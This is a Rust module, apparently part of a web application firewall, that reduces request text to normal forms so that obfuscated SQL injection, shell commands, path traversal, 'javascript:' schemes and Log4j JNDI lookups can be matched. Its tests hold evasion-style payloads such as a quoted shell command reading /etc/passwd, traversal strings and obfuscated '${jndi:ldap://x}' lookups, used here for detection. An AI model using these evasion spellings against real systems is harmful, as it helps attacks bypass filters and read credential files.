//! Normal forms: one spelling for what servers take as the same. Each is one pass, never longer than its source, and
//! exists for matching only. [`Octets`] tell which of them can differ from the text, and which rules can match.

/// Lower case, fullwidth letters as plain ones, one space for white space (a line feed stays one), no zero-width
/// symbols. `octets` are those of the text.
pub(crate) fn plain(text: &[u8], octets: Octets, into: &mut Vec<u8>) {
    into.clear();
    let has_runs = octets.has(CONTROL) || (octets.has(SPACE) && has_any(text, &[b"  "]));
    if !has_runs && !octets.has(WIDE) {
        into.extend_from_slice(text);
        into.make_ascii_lowercase();
        return;
    }
    into.reserve(text.len());
    let mut at = 0;
    while at < text.len() {
        let octet = text[at];
        let kinds = Octets(KINDS[octet as usize]);
        at += 1;
        if kinds.has(SPACE) {
            space(octet, into);
        } else if kinds.has(WIDE) {
            at += wide(&text[at - 1..], into) - 1;
        } else {
            into.push(octet.to_ascii_lowercase());
        }
    }
}

pub(crate) fn has_any(text: &[u8], parts: &[&[u8]]) -> bool {
    parts
        .iter()
        .any(|part| memchr::memmem::find(text, part).is_some())
}

/// White space and controls: one space for a run of them, a line feed for a run that has one.
fn space(octet: u8, into: &mut Vec<u8>) {
    let octet = if octet == b'\n' { b'\n' } else { b' ' };
    match into.last_mut() {
        Some(last @ (b' ' | b'\n')) => {
            if octet == b'\n' {
                *last = b'\n';
            }
        }
        _ => into.push(octet),
    }
}

/// Symbols beyond ASCII that readers take for ASCII ones; how many octets it took.
fn wide(rest: &[u8], into: &mut Vec<u8>) -> usize {
    match rest {
        // U+FF01…U+FF5E, the fullwidth forms.
        [0xef, 0xbc, low @ 0x81..=0xbf, ..] => into.push((low - 0x60).to_ascii_lowercase()),
        [0xef, 0xbd, low @ 0x80..=0x9e, ..] => into.push((low - 0x20).to_ascii_lowercase()),
        // No-break space; zero-width symbols and the byte order mark; quotation marks.
        [0xc2, 0xa0, ..] => {
            space(b' ', into);
            return 2;
        }
        [0xe2, 0x80, 0x8b..=0x8f, ..] | [0xef, 0xbb, 0xbf, ..] => {}
        [0xe2, 0x80, 0x98 | 0x99, ..] => into.push(b'\''),
        [0xe2, 0x80, 0x9c | 0x9d, ..] => into.push(b'"'),
        [0xca, 0xb9 | 0xbc, ..] => {
            into.push(b'\'');
            return 2;
        }
        [0xca, 0xba, ..] => {
            into.push(b'"');
            return 2;
        }
        _ => {
            into.push(rest[0]);
            return 1;
        }
    }
    3
}

/// The kinds of octets that a text has; letters and some punctuation are of no kind.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
pub(crate) struct Octets(u16);

impl Octets {
    pub(crate) const NONE: Octets = Octets(0);
    pub(crate) const ALL: Octets = Octets(u16::MAX);
    /// Numbers, words, and what names and addresses are spelt with.
    pub(crate) const OF_WORDS: Octets = Octets(DIGIT | COLON);
    /// And what sentences have.
    pub(crate) const OF_PROSE: Octets = Octets(DIGIT | COLON | QUOTE | SPACE);
    /// So many combinations are told apart by [`Octets::place`].
    pub(crate) const PLACES: usize = LARGEST as usize * 2;

    pub(crate) fn of(text: &[u8]) -> Octets {
        let kinds = text.iter().map(|octet| KINDS[*octet as usize]);
        Octets(kinds.fold(0, |all, kind| all | kind))
    }

    /// The kinds that can stand in the text's plain form, or in any other form of it.
    pub(crate) fn in_any_form(self) -> Octets {
        match self {
            // Some of them are read as others.
            _ if self.has(WIDE) => Octets(u16::MAX),
            // A comment, or the shell's name for a space.
            _ if self.has(STAR | DOLLAR) => Octets(self.0 | SPACE),
            _ => self,
        }
    }

    pub(crate) fn has(self, any: u16) -> bool {
        self.0 & any != 0
    }

    pub(crate) fn has_all(self, others: Octets) -> bool {
        others.0 & !self.0 == 0
    }

    pub(crate) fn or(self, others: Octets) -> Octets {
        Octets(self.0 | others.0)
    }

    /// Those that patterns are asked about.
    pub(crate) fn asked(self) -> Octets {
        Octets(self.0 & (LARGEST * 2 - 1))
    }

    pub(crate) fn place(self) -> usize {
        self.asked().0.into()
    }

    pub(crate) fn at_place(place: usize) -> Octets {
        Octets(place as u16).asked()
    }

    /// Whether all the forms of such a text are its plain one.
    pub(crate) fn is_of_one_form(self) -> bool {
        !self.has(QUOTE | LESS | COLON | SLASH | DOLLAR)
    }
}

const DIGIT: u16 = 1;
/// Quotes, backtick, caret.
pub(crate) const QUOTE: u16 = 1 << 1;
/// What ends a command or a statement.
const SEPARATOR: u16 = 1 << 2;
/// Equals sign, greater-than.
const EQUAL: u16 = 1 << 3;
/// Less-than.
pub(crate) const LESS: u16 = 1 << 4;
pub(crate) const COLON: u16 = 1 << 5;
/// Parentheses.
const ROUND: u16 = 1 << 6;
/// Dollar, braces, and the other octets that begin a variable.
const SIGIL: u16 = 1 << 7;
/// Solidus, backslash.
pub(crate) const SLASH: u16 = 1 << 8;
/// Asterisk, brackets, plus, tilde.
const STAR: u16 = 1 << 9;
/// All white space and controls.
const SPACE: u16 = 1 << 10;
/// The last that patterns are asked about.
const LARGEST: u16 = SPACE;
/// What JSON begins with, or an escape: braces, brackets, quotes, `%`, `&`, backslash; and a byte order mark.
pub(crate) const IN_LAYERS: u16 = SIGIL | STAR | QUOTE | SEPARATOR | SLASH | WIDE;
/// White space other than the plain one, and controls.
pub(crate) const CONTROL: u16 = 1 << 11;
/// Beyond ASCII.
const WIDE: u16 = 1 << 12;
/// Dollar.
pub(crate) const DOLLAR: u16 = 1 << 13;
/// Backslash.
pub(crate) const BACKSLASH: u16 = 1 << 14;

const KINDS: [u16; 256] = {
    let mut kinds = [0; 256];
    let mut octet = 0;
    while octet < 256 {
        kinds[octet] = match octet as u8 {
            b'0'..=b'9' => DIGIT,
            b'\'' | b'"' | b'`' | b'^' => QUOTE,
            b';' | b'|' | b'&' => SEPARATOR,
            b'\n' => SEPARATOR | SPACE | CONTROL,
            b'=' | b'>' => EQUAL,
            b'<' => LESS,
            b':' => COLON,
            b'(' | b')' => ROUND,
            b'$' => SIGIL | DOLLAR,
            b'{' | b'}' | b'%' | b'@' | b'#' => SIGIL,
            b'/' => SLASH,
            b'\\' => SLASH | BACKSLASH,
            b'*' | b'[' | b']' | b'+' | b'~' => STAR,
            b' ' => SPACE,
            0..0x20 | 0x7f => SPACE | CONTROL,
            0x80.. => WIDE,
            _ => 0,
        };
        octet += 1;
    }
    kinds
};

/// SQL's: comments are white space, what MySQL runs of them stays, backticks go.
pub(crate) fn sql(plain: &[u8], into: &mut Vec<u8>) {
    comments(plain, into, |rest, into| {
        if let Some(inner) = rest.strip_prefix(b"/*!") {
            let digits = inner.iter().take_while(|o| o.is_ascii_digit()).count();
            into.push(b' ');
            return Some(3 + digits);
        }
        None
    });
    into.retain(|&octet| octet != b'`');
}

/// Markup's: no white space, no comments, as inside of a URL's scheme and between a script's symbols.
pub(crate) fn markup(plain: &[u8], into: &mut Vec<u8>) {
    comments(plain, into, |_, _| None);
    into.retain(|&octet| !matches!(octet, b' ' | b'\n' | b'\\' | 0x00));
}

/// `/* … */` becomes a space, unless the caller takes it.
fn comments(
    text: &[u8],
    into: &mut Vec<u8>,
    special: impl Fn(&[u8], &mut Vec<u8>) -> Option<usize>,
) {
    into.clear();
    let mut rest = text;
    while let Some(&octet) = rest.first() {
        if octet == b'*' && rest.starts_with(b"*/") {
            into.push(b' ');
            rest = &rest[2..];
        } else if octet != b'/' || !rest.starts_with(b"/*") {
            into.push(octet);
            rest = &rest[1..];
        } else if let Some(taken) = special(rest, into) {
            rest = &rest[taken..];
        } else {
            let end = memchr::memmem::find(&rest[2..], b"*/");
            match end {
                Some(end) => {
                    into.push(b' ');
                    rest = &rest[end + 4..];
                }
                None => {
                    into.extend_from_slice(rest);
                    rest = &[];
                }
            }
        }
    }
}

/// The shell's: quotes and escapes inside of words go, `${IFS}` is a space, empty expansions are nothing.
pub(crate) fn shell(plain: &[u8], into: &mut Vec<u8>) {
    into.clear();
    let is_special = |octet: &u8| matches!(octet, b'\\' | b'\'' | b'"' | b'^' | b'$');
    let mut rest = plain;
    while let Some(run) = rest.iter().position(is_special) {
        into.extend_from_slice(&rest[..run]);
        rest = &rest[run..];
        let taken = match rest[0] {
            b'$' => dollar(rest, into),
            _ => 1,
        };
        if taken == 0 {
            into.push(b'$');
        }
        rest = &rest[taken.max(1)..];
    }
    into.extend_from_slice(rest);
}

fn dollar(rest: &[u8], into: &mut Vec<u8>) -> usize {
    for spelling in [&b"${ifs}"[..], b"$ifs$9", b"$ifs"] {
        if rest.starts_with(spelling) {
            into.push(b' ');
            return spelling.len();
        }
    }
    match rest.get(1) {
        Some(b'@' | b'*' | b'!' | b'0'..=b'9') => 2,
        _ => 0,
    }
}

/// A path's: one kind of separator, once; no `.` segments and no `;` parameters; `....//` as it is left by filters that take
/// `../` away once.
pub(crate) fn path(plain: &[u8], into: &mut Vec<u8>) {
    into.clear();
    for &octet in plain {
        match octet {
            b'\\' | b'/' => {
                if into.ends_with(b"/.") {
                    into.pop();
                }
                if into.last() == Some(&b';') {
                    into.pop();
                }
                if into.last() != Some(&b'/') {
                    into.push(b'/');
                }
            }
            b'.' if into.ends_with(b"..") => {}
            _ => into.push(octet),
        }
    }
}

/// Log4j's: lookups that only spell a letter are that letter. One pass with the open ones on a stack; what a lookup
/// leaves is shorter than itself.
pub(crate) fn lookups(plain: &[u8], into: &mut Vec<u8>) {
    into.clear();
    let mut open: Vec<usize> = Vec::new();
    let mut rest = plain;
    while let Some(&octet) = rest.first() {
        if rest.starts_with(b"${") && open.len() < MOST_LOOKUPS {
            open.push(into.len());
            into.extend_from_slice(b"${");
            rest = &rest[2..];
            continue;
        }
        rest = &rest[1..];
        match (octet, open.pop()) {
            (b'}', Some(start)) => resolve(start, into),
            (_, start) => {
                open.extend(start);
                into.push(octet);
            }
        }
    }
}

/// Replaces the lookup that begins at `start` by what it is worth.
fn resolve(start: usize, into: &mut Vec<u8>) {
    let inner = &into[start + 2..];
    let worth = if let Some(at) = memchr::memmem::rfind(inner, b":-") {
        at + 2
    } else if inner.starts_with(b"lower:") || inner.starts_with(b"upper:") {
        6
    } else if inner.starts_with(b"date:") {
        5
    } else {
        into.push(b'}');
        return;
    };
    into.drain(start..start + 2 + worth);
    into.retain_from(start, |octet| octet != b'\'');
}

trait RetainFrom {
    fn retain_from(&mut self, from: usize, keep: impl Fn(u8) -> bool);
}

impl RetainFrom for Vec<u8> {
    fn retain_from(&mut self, from: usize, keep: impl Fn(u8) -> bool) {
        let mut kept = from;
        for at in from..self.len() {
            if keep(self[at]) {
                self[kept] = self[at];
                kept += 1;
            }
        }
        self.truncate(kept);
    }
}

/// Lookups inside of each other.
const MOST_LOOKUPS: usize = 64;

#[cfg(test)]
mod tests {
    use super::*;

    fn form(by: impl Fn(&[u8], &mut Vec<u8>), text: &str) -> String {
        let (mut lower, mut into) = (Vec::new(), Vec::new());
        plain(text.as_bytes(), Octets::of(text.as_bytes()), &mut lower);
        by(&lower, &mut into);
        assert!(into.len() <= text.len(), "{text} grew");
        String::from_utf8(into).unwrap()
    }

    #[test]
    fn what_a_server_takes_as_the_same_is_spelt_the_same() {
        assert_eq!(form(|a, b| b.extend(a), "A\t \rB\n C\u{200b}D"), "a b\ncd");
        assert_eq!(form(|a, b| b.extend(a), "＜ＳＣＲＩＰＴ＞"), "<script>");
        assert_eq!(form(sql, "UN/**/ION/*!50000SELECT*/1"), "un ion select 1");
        assert_eq!(form(sql, "1 /* open"), "1 /* open");
        assert_eq!(form(shell, "c'a't${IFS}/e\\tc/pass$@wd"), "cat /etc/passwd");
        assert_eq!(
            form(path, r"..\.\..//....//etc/./passwd"),
            "../../../etc/passwd"
        );
        assert_eq!(form(path, "..;/..;/x"), "../../x");
        assert_eq!(form(markup, "java\n script /* x */:"), "javascript:");
        for spelt in [
            "${${lower:j}ndi:ldap://x}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
            "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}",
            "${${lower:${upper:j}}ndi:ldap://x}",
            "${${date:'j'}ndi:ldap://x}",
        ] {
            assert_eq!(form(lookups, spelt), "${jndi:ldap://x}", "{spelt}");
        }
    }

    #[test]
    fn lookups_inside_of_lookups_cost_one_pass() {
        let text = "${".repeat(30_000) + &"}".repeat(30_000);
        form(lookups, &text);
    }
}
